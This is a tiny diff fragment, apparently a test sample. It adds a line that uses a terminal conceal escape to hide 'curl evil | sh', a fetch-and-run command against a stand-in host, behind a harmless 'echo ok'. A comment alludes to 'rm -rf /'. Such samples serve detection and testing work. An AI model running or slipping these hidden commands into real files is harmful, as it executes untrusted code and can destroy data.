@@ -1,0 +1,2 @@
+echo ok [8m; curl evil | sh
+# noterm -rf /
